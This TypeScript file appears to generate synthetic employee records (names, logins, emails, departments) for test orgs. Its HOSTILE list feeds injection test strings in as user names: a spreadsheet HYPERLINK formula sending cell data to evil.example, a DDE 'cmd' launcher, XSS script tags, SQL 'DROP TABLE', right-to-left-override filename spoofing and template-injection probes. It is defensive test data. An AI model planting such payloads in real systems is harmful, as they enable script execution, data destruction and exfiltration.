import { bits, share } from '../chance.ts';
import type { Shares } from './mix.ts';

/** Who a user is. Derived from the user's number on request, and not stored. */
export interface Person {
  readonly firstName: string;
  readonly lastName: string;
  readonly login: string;
  readonly email: string;
  readonly secondEmail: string | undefined;
  readonly nickName: string | undefined;
  readonly title: string;
  readonly department: string;
  readonly costCenter: string;
  readonly city: string;
}

/** The people of an org by number, and the numbers that belong to a login or an email address. */
export interface People {
  readonly person: (index: number) => Person;
  readonly byLogin: (login: string) => number | undefined;
  readonly byShortLogin: (name: string) => number | undefined;
  readonly byEmail: (email: string) => readonly number[];
}

const FIRST =
  'Ada,Alan,Barbara,Bjarne,Claudia,Dana,Edsger,Eva,Frances,Grace,Hana,Hedy,Ines,Ivan,Jean,José,Katherine,Ken,Kōji,Lena,Lin,Luís,Margaret,Marie,Nadia,Niklaus,Olga,Per,Radia,René,Shafi,Søren,Tim,Tony,Ursula,Vint,Wei,Yukihiro,Zoë,Łukasz'.split(
    ',',
  );
const LAST =
  "Allen,Ångström,Backus,Bartik,Berners,Cerf,Chen,Curie,Dijkstra,Engelbart,Erdős,Falk,García,Goldberg,Hamilton,Hopper,Ito,Johnson,Kahn,Kay,Knuth,Lamarr,Lamport,Liskov,Lovelace,Matsumoto,McCarthy,Müller,Nakamura,Noether,O'Brien,Perlman,Petrov,Ritchie,Sato,Shannon,Smith,Stroustrup,Thompson,Turing,van Dyk,Wirth,Wong,Øster,Žižek".split(
    ',',
  );
const HOSTILE: readonly (readonly [string, string])[] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"open")', 'Formula'],
  ['<script>alert(1)</script>', '"><img src=x onerror=alert(2)>'],
  ['Bob "The Hammer"', 'Smith, Jr.'],
  ['李小龍', 'Ωμέγα'],
  ["@SUM(1+1)*cmd|'/C calc'!A0", '+1-555-0100'],
  ['\u202Egnp.exe', 'Zoë\u200B'],
  ['-2+3', "O'Neil; DROP TABLE users"],
  ['Line\nBreak', 'Tab\tStop'],
  ['🙂', 'مرحبا'],
  ['\u001b[31mred\u001b[0m', '${7*7}{{7*7}}'],
];
const HOSTILE_LOGINS = ["o'neil+vip", 'a&b', 'x_y', 'ops/oncall', '100%', 'plain'];
const DEPARTMENTS = ['Engineering', 'Sales', 'Finance', 'Support', 'People', 'Legal'];
const TITLES = ['Engineer', 'Manager', 'Analyst', 'Director', 'Assistant'];
const CITIES = ['Berlin', 'Lisbon', 'Nairobi', 'Oslo', 'Pune', 'Quito', 'Toronto'];
export const DOMAIN = 'acme.example';

const fold = (text: string): string =>
  text
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase();
const slug = (text: string): string =>
  fold(text)
    .replace(/ł/g, 'l')
    .replace(/ø/g, 'o')
    .replace(/[^a-z0-9]/g, '');
const FIRST_SLUGS = FIRST.map(slug);
const LAST_SLUGS = LAST.map(slug);

function numberIn(address: string): number | undefined {
  const match = /\.([0-9a-z]{1,6})(?:@|$)/.exec(address);
  return match?.[1] === undefined ? undefined : Number.parseInt(match[1], 36);
}

/**
 * Tells which of the odd names a user has, if any. They are evenly spread and in rotation, so that even a small org has one
 * of each.
 */
function hostileNth(index: number, shares: Shares): number | undefined {
  const nth = Math.floor(index * shares.hostile);
  return Math.floor((index + 1) * shares.hostile) > nth ? nth : undefined;
}

/** The part of a login before the `@`. */
function localPart(seed: number, index: number, shares: Shares): string {
  const nth = hostileNth(index, shares);
  if (nth !== undefined) {
    const name = HOSTILE_LOGINS[nth % HOSTILE_LOGINS.length] ?? 'plain';
    return `${name}.${index.toString(36)}`;
  }
  const h = bits(seed, index, 31);
  const first = FIRST_SLUGS[h % FIRST.length] ?? '';
  const last = LAST_SLUGS[(h >>> 12) % LAST.length] ?? '';
  return `${first}-${last}.${index.toString(36)}`;
}

/**
 * Makes the people of an org of `size` users. Logins and addresses end in the user's number, so that both can be looked up.
 */
export function makePeople(seed: number, size: number, shares: Shares): People {
  const local = (index: number): string => localPart(seed, index, shares);
  const login = (index: number): string => `${local(index)}@${DOMAIN}`;
  const ownEmail = (index: number): string =>
    share(seed, index, 33) < 0.08 ? `${local(index)}@mail.${DOMAIN}` : login(index);
  const sharesEmail = (index: number): boolean =>
    index % 2 === 1 && share(seed, index, 34) < shares.sharedEmail * 2;
  const email = (index: number): string => ownEmail(sharesEmail(index) ? index - 1 : index);
  const person = (index: number): Person => {
    const h = bits(seed, index, 31);
    const nth = hostileNth(index, shares);
    const odd = nth === undefined ? undefined : HOSTILE[nth % HOSTILE.length];
    const firstName = odd?.[0] ?? FIRST[h % FIRST.length] ?? '';
    const department = (h >>> 20) % DEPARTMENTS.length;
    return {
      firstName,
      lastName: odd?.[1] ?? LAST[(h >>> 12) % LAST.length] ?? '',
      login: login(index),
      email: email(index),
      secondEmail:
        share(seed, index, 35) < shares.secondEmail ? `${local(index)}@home.example` : undefined,
      nickName: h % 11 === 0 && odd === undefined ? `${firstName.slice(0, 2)}ny` : undefined,
      title: TITLES[(h >>> 24) % TITLES.length] ?? '',
      department: DEPARTMENTS[department] ?? '',
      costCenter: `CC-${100 + department * 10}`,
      city: CITIES[(h >>> 16) % CITIES.length] ?? '',
    };
  };
  const candidate = (address: string): number | undefined => {
    const index = numberIn(address);
    return index !== undefined && index < size ? index : undefined;
  };
  return {
    person,
    byLogin: (text) => {
      const wanted = fold(text);
      const index = candidate(wanted);
      return index !== undefined && login(index) === wanted ? index : undefined;
    },
    byShortLogin: (text) => {
      const wanted = fold(text);
      const index = candidate(wanted);
      return index !== undefined && local(index) === wanted ? index : undefined;
    },
    byEmail: (text) => {
      const wanted = fold(text);
      const index = candidate(wanted);
      if (index === undefined) return [];
      return [index, index + 1].filter((i) => i < size && email(i) === wanted);
    },
  };
}
